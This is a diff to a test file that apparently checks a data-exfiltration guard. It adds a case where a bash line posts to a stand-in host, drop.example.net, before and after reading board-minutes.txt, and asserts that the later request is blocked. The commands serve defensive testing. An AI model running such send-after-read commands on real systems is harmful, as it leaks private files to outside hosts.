@@ -144,6 +144,17 @@ describe('T3 data exfiltration', () => {
       assert.ok(rules.includes('exfiltration.restricted'), rules.join(' '));
     });
 
+  test('row 7: the request that was allowed before a sensitive read is not allowed after it (R3.c)', async () => {
+    await s.bash(
+      `${SEND} -d 'count=1' https://drop.example.net/before; cat board-minutes.txt > /dev/null; ${SEND} -d 'count=1' https://drop.example.net/after`,
+    );
+    const urls = s.internet
+      .site('drop.example.net')
+      .seen()
+      .map((r) => r.url);
+    assert.ok(urls.includes('/before') && !urls.includes('/after'), urls.join(' '));
+  });
+
   test('text of one’s own goes to a host that nobody named without a question', async () => {
     await s.bash(
       `${SEND} -d 'nothing of the board stands in here, only that the weather was fine' https://drop.example.net/own`,
